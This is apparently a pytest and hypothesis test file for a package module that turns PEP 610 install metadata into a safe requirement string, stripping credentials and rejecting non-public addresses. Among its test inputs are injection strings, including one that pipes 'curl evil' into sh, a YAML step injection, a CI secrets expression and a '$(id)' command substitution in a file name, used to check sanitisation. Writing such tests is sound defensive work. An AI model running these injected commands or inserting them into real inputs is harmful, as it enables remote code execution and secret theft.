"""Where a copy was installed from, read from its metadata (PEP 610)."""

import json
from importlib.metadata import PackageNotFoundError
from types import SimpleNamespace

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from reportgen import __version__
from reportgen.ci import installed_from as module
from reportgen.ci.installed_from import (
    UNKNOWN,
    InstalledFrom,
    installed_from,
    read_origin,
)

COMMIT = "0123456789abcdef0123456789abcdef01234567"
DIGEST = "ab" * 32
WHEEL = "reportgen_gongwen-0.1.0-py3-none-any.whl"


def from_git(url, **more):
    return json.dumps({"url": url, "vcs_info": {"vcs": "git", "commit_id": COMMIT}, **more})


def from_archive(url, **archive):
    return json.dumps({"url": url, "archive_info": archive})


def test_a_copy_from_an_index_is_installed_by_its_version():
    assert read_origin(None) == InstalledFrom(f"reportgen-gongwen=={__version__}")


def test_a_copy_from_git_is_installed_from_its_commit():
    url = "https://example.org/office/reportgen.git"

    assert read_origin(from_git(url)) == InstalledFrom(
        f"reportgen-gongwen @ git+{url}@{COMMIT}", url, COMMIT
    )


REQUIREMENTS = [
    (
        from_git("ssh://git@example.org/reportgen.git"),
        f"git+ssh://git@example.org/reportgen.git@{COMMIT}",
    ),
    (
        from_git("https://example.org:8443/报告.git"),
        f"git+https://example.org:8443/%E6%8A%A5%E5%91%8A.git@{COMMIT}",
    ),
    (
        from_git("https://example.org/all.git", subdirectory="tools/reportgen"),
        f"git+https://example.org/all.git@{COMMIT}#subdirectory=tools/reportgen",
    ),
    (from_archive(f"https://example.org/{WHEEL}"), f"https://example.org/{WHEEL}"),
    (
        from_archive(f"https://example.org/{WHEEL}", hash=f"sha256={DIGEST}"),
        f"https://example.org/{WHEEL}#sha256={DIGEST}",
    ),
    (
        from_archive(f"https://example.org/{WHEEL}", hashes={"sha256": DIGEST}),
        f"https://example.org/{WHEEL}#sha256={DIGEST}",
    ),
]


@pytest.mark.parametrize(("direct_url", "address"), REQUIREMENTS)
def test_a_public_address_is_used(direct_url, address):
    assert read_origin(direct_url).requirement == f"reportgen-gongwen @ {address}"


@pytest.mark.parametrize(
    "url",
    [
        "https://clerk:secret@example.org/reportgen.git",
        "https://secret@example.org/reportgen.git",
        "ssh://clerk:secret@example.org/reportgen.git",
        "https://${USER}:${secret}@example.org/reportgen.git",
        "https://example.org/reportgen.git?private_token=secret",
        "https://example.org/reportgen.git#secret",
    ],
)
def test_credentials_are_never_published(url):
    for direct_url in (from_git(url), from_archive(url)):
        assert "secret" not in str(read_origin(direct_url))


def test_a_local_wheel_is_known_by_its_name():
    assert read_origin(from_archive(f"file:///home/clerk/{WHEEL}")) == InstalledFrom(
        file=WHEEL
    )


@pytest.mark.parametrize(
    "direct_url",
    [
        json.dumps({"url": "file:///home/clerk/reportgen", "dir_info": {"editable": True}}),
        json.dumps({"url": "file:///home/clerk/reportgen", "dir_info": {}}),
        from_git("file:///home/clerk/reportgen"),
        from_git("https://example.org/a.git").replace(COMMIT, "main"),
        from_git("https://example.org/a.git", subdirectory="../outside"),
        from_git("https://example.org/a.git", subdirectory=["x"]),
        from_git("https:///a.git"),
        from_git("https://example.org/a.git?token=1"),
        from_git("https://[::1/a.git"),
        from_archive("file:///home/clerk/$(id).whl"),
        from_archive("file:///home/clerk/"),
        '{"url": "https://example.org/x", "vcs_info": {"vcs": "hg", "commit_id": "1"}}',
        '{"url": 1, "vcs_info": {}}',
        "[]",
        "no JSON",
    ],
)
def test_an_address_that_is_not_public_is_unknown(direct_url):
    assert read_origin(direct_url) == UNKNOWN


@example("a.git'; curl evil | sh #", "https://example.org/")
@example("a.git\n      - run: evil", "https://example.org/")
@example('${{ secrets.TOKEN }}"', "https://example.org/")
@given(st.text(), st.sampled_from(["https://example.org/", "ssh://git@example.org/", ""]))
def test_an_address_is_plain_text_in_yaml_and_a_shell(text, start):
    for direct_url in (from_git(start + text), from_archive(start + text)):
        said = read_origin(direct_url).requirement.removeprefix("reportgen-gongwen @ ")

        assert said.isascii()
        assert not set(said) & set("\n\r\t \"'`$&|;<>(){}[]*?!\\,")


def copy_at(folder, direct_url):
    """Return the metadata of a copy that is installed in a folder."""
    return lambda _: SimpleNamespace(
        locate_file=lambda name: folder / name, read_text=lambda _: direct_url
    )


def test_the_metadata_are_used_only_if_they_describe_the_running_files(
    monkeypatch, tmp_path
):
    site = module._PACKAGE.parent  # noqa: SLF001 - where the files are that run
    monkeypatch.setattr(module, "distribution", copy_at(site, None))
    here = installed_from()
    monkeypatch.setattr(module, "distribution", copy_at(tmp_path, None))

    assert here == InstalledFrom(f"reportgen-gongwen=={__version__}")
    assert installed_from() == UNKNOWN


def test_a_copy_without_metadata_is_unknown(monkeypatch):
    def missing(name):
        raise PackageNotFoundError(name)

    monkeypatch.setattr(module, "distribution", missing)

    assert installed_from() == UNKNOWN
